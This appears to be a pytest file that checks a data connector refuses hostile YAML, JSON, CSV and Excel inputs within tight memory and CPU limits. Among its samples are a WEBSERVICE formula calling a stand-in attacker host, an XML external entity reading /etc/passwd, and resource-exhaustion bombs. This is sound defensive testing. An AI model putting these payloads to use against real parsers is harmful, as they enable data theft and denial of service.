"""The packs of hostile files, each read in a process of its own that may not have much memory or time.

The bounds are generous: what they catch takes a hundred times as much (1.2 GB and 7 s for a workbook of 1.3 MB).
"""

from __future__ import annotations

import json
import resource
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from connectors.errors import Refused
from connectors.files.preset import load
from sync.config.document import MOST_PROBLEMS
from tests.exports import pull
from tests.unit.test_yaml import HOSTILE, YAML_1_1

ROOT = Path(__file__).parents[2]
SHEET = "xl/worksheets/sheet1.xml"
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
MEMORY_MIB, CPU_S = 200, 20
DEEP = {
    "lists": b"[" * 30_000 + b"]" * 30_000,
    "mappings": b"{a: " * 13_000 + b"}" * 13_000,
    "blocks": b"- " * 30_000,
    "keys": b"? " * 30_000,
    "open": b"[" * 60_000,
}
_PROGRAM = """
import json, sys, time
from datetime import UTC, datetime
from pathlib import Path
from connectors.files.source import FileSource
from sync.config.yaml import parse
folder = Path(sys.argv[1])
told = {}
for path in sorted(folder.iterdir()):
    began = time.process_time()
    if path.suffix == ".yaml":
        told[path.name] = [len(parse(path.read_bytes(), path.name).problems)]
    else:
        source = FileSource(name="s", path=path.name, root=folder, now=lambda: datetime(2026, 11, 22, tzinfo=UTC))
        pages = list(source.pull({}))
        told[path.name] = [page.refused.code for page in pages if page.refused], sum(page.rows for page in pages)
    told[path.name] = *told[path.name], time.process_time() - began
# Not getrusage: what the process was before it became this one counts there, too.
used = next(line for line in Path("/proc/self/status").read_text().splitlines() if line.startswith("VmHWM:"))
print(json.dumps([told, int(used.split()[1]) // 1024]))
"""


def read_in_a_small_process(folder: Path, mib: int = 1024) -> tuple[dict[str, Any], int]:
    """Return what became of each file of *folder*, and the most memory that was used, in MiB.

    *mib* bounds addresses, of which libraries and allocators reserve more than they use.
    """

    def limited() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (mib << 20, mib << 20))
        resource.setrlimit(resource.RLIMIT_CPU, (CPU_S, CPU_S))

    words = [sys.executable, "-c", _PROGRAM, str(folder)]
    done = subprocess.run(words, cwd=ROOT, capture_output=True, text=True, check=False, preexec_fn=limited)
    assert 0 == done.returncode, done.stderr[-2_000:]
    told, used = json.loads(done.stdout)
    return told, used


def sheet(path: Path, xml: str, part: str = SHEET) -> None:
    """Make a workbook in which one part is *xml*."""
    book = openpyxl.Workbook()
    book.save(path)
    with zipfile.ZipFile(path) as package:
        parts = {each.filename: package.read(each) for each in package.infolist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, held in (parts | {part: xml.encode()}).items():
            package.writestr(name, held)


def rows(inside: str) -> str:
    cells = "".join(
        f'<c r="{at}1" t="inlineStr"><is><t>{name}</t></is></c>' for at, name in (("A", "score"), ("B", "date"))
    )
    head = f'<row r="1">{cells}</row>'
    return f"<worksheet {MAIN}><sheetData>{head}{inside}</sheetData></worksheet>"


def test_hostile_settings_take_neither_memory_nor_time(tmp_path: Path) -> None:
    more = {
        "many lists": b"a: [" + b"[]," * 300_000,
        "many keys twice": b"a: 1\n" * 200_000,
        "many anchors": b"a: &x " * 1_000 + b"1",
        "many documents": b"---\n" * 200_000,
        "one comment": b"#" + b"x" * 1_000_000,
        "spaces": b" " * 1_000_000,
        "odd signs and tabs": b"\0\n\t" * 200,
    }
    packs = {name: raw for name, (raw, _) in HOSTILE.items()} | more | DEEP
    for number, raw in enumerate(packs.values()):
        (tmp_path / f"{number:03}.yaml").write_bytes(raw)

    told, used = read_in_a_small_process(tmp_path)

    assert len(packs) == len(told)
    assert all(problems <= MOST_PROBLEMS for problems, _ in told.values())
    assert used < MEMORY_MIB
    assert all(seconds < CPU_S / 4 for _, seconds in told.values()), told


def test_hostile_exports_take_neither_memory_nor_time(tmp_path: Path) -> None:
    names = ",".join(f'"n{number}": 1' for number in range(4_000))
    packs = {
        "deep.json": b"[" * 500_000,
        "deep_objects.json": b'[{"a": ' * 200_000,
        "digits.json": b'[{"score": ' + b"9" * 1_000_000 + b', "date": "2026-01-05"}]',
        "numbers.json": b'[{"score": NaN, "date": 1e999}, {"score": -Infinity, "date": "x"}, {"score": 1e400}]',
        "text.json": b'[{"score": 9, "comment": "' + b"x" * (10 << 20) + b'"}]',
        "wide.json": b"[{" + names.encode() + b"}" + b',{"score": 9, "date": "2026-01-05"}' * 20_000 + b"]",
        "twice.json": b'[{"score": 9, "score": 1, "date": "2026-01-05"}]',
        "nul.csv": b"score,date\n9,2026-01-05\0\n",
        "quote.csv": b'score,date\n9,"2026-01-05\n' + b"x,y\n" * 200_000,
        "columns.csv": b"score,date" + b"," * 1_000_000 + b"\n9,2026-01-05\n",
        "quotes.csv": b"score,date\n" + b'"' * 3_000_000,
        "ends.csv": b"score,date\n" + b"\r" * 1_000_000,
        "mixed.csv": "score,date,comment\n9,2026-01-05,ü\n".encode() + "8,2026-01-06,ü\n".encode("latin-1"),
    }
    for name, raw in packs.items():
        (tmp_path / name).write_bytes(raw)

    told, used = read_in_a_small_process(tmp_path)

    assert packs.keys() == told.keys()
    assert 20_001 == told["wide.json"][1]
    assert [[], 2] == told["mixed.csv"][:2]
    assert used < MEMORY_MIB
    assert all(seconds < CPU_S / 4 for *_, seconds in told.values()), told


def test_hostile_workbooks_take_neither_memory_nor_time(tmp_path: Path) -> None:
    text = "<is><t>" + "A" * 1_000 + "</t></is>"
    sheet(tmp_path / "bomb.xlsx", rows(f'<row><c t="inlineStr">{text}</c></row>' * 60_000))
    sheet(tmp_path / "texts.xlsx", f"<sst {MAIN}>" + f"<si><t>{'A' * 1_000}</t></si>" * 80_000, "xl/sharedStrings.xml")
    sheet(tmp_path / "far.xlsx", rows('<row><c r="FAA1" t="inlineStr"><is><t>x</t></is></c></row>' * 5_000))
    sheet(tmp_path / "deep.xlsx", rows("<row>" * 50_000))
    sheet(tmp_path / "tag.xlsx", rows("<row " + "x" * 5_000_000))
    formula = '<row r="2"><c r="A2"><f>1/0</f></c><c r="B2" t="str"><f>WEBSERVICE("http://evil.example")</f><v>2026-01-05</v></c></row>'
    sheet(tmp_path / "formula.xlsx", rows(formula))
    entity = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + rows("<row><c><v>&a;</v></c></row>")
    sheet(tmp_path / "outside.xlsx", entity)
    (tmp_path / "garbage.xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 4_000)
    (tmp_path / "garbage.xlsx").write_bytes(b"PK\x03\x04" + bytes(range(256)) * 4_000)

    told, used = read_in_a_small_process(tmp_path)

    refused = {name for name, (codes, *_) in told.items() if codes}
    assert {"bomb.xlsx", "texts.xlsx", "tag.xlsx", "outside.xlsx", "garbage.xls", "garbage.xlsx"} <= refused
    assert used < 512
    assert all(seconds < CPU_S / 4 for *_, seconds in told.values()), told


@pytest.mark.parametrize("number", ["0", "-5", "1048577", "99999999999999999999999"])
def test_a_row_numbered_as_none_can_be_is_refused(tmp_path: Path, number: str) -> None:
    """No ledger can keep a number of twenty digits: it ended the run, and with it all other files."""
    sheet(tmp_path / "rows.xlsx", rows(f'<row r="{number}"><c r="A2"><v>9</v></c><c r="B2"><v>46027</v></c></row>'))

    assert ["E112"] == [error.code for error in pull(tmp_path, ".").refused]


def test_a_text_before_the_first_is_no_text(tmp_path: Path) -> None:
    """Python counts -1 from the end: the cell would have shown another person's text."""
    sheet(tmp_path / "texts.xlsx", rows('<row r="2"><c r="A2" t="s"><v>-1</v></c></row>'))

    assert ["E112"] == [error.code for error in pull(tmp_path, ".").refused]


@pytest.mark.parametrize("raw", [*(raw for raw, _ in HOSTILE.values()), *DEEP.values()], ids=[*HOSTILE, *DEEP])
def test_a_hostile_preset_is_refused(tmp_path: Path, raw: bytes) -> None:
    """libyaml ends the whole process on 30,000 brackets; PyYAML raised more than its own errors."""
    (tmp_path / "mine.yaml").write_bytes(raw)

    with pytest.raises(Refused) as caught:
        load(tmp_path / "mine.yaml", name="mine.yaml")

    assert caught.value.code in {"E102", "E103"}


@pytest.mark.parametrize("text", [*YAML_1_1, "2026-99-99", "9" * 5_000])
def test_a_word_in_a_preset_means_itself(tmp_path: Path, text: str) -> None:
    """YAML 1.1 makes `no` false, so that `values: [no]` left nothing out."""
    (tmp_path / "mine.yaml").write_text(
        f"name: mine\ntitle: {text}\nskip: [{{reason: test, column: a, values: [{text}]}}]\n"
    )

    preset = load(tmp_path / "mine.yaml", name="mine.yaml")

    assert (text, (text.casefold(),)) == (preset.title, preset.skip[0].values)


def test_a_key_that_is_there_twice_makes_no_preset(tmp_path: Path) -> None:
    (tmp_path / "mine.yaml").write_text("name: mine\ntitle: a\ntitle: b\n")

    with pytest.raises(Refused, match=r"mine\.yaml:1"):
        load(tmp_path / "mine.yaml", name="mine.yaml")
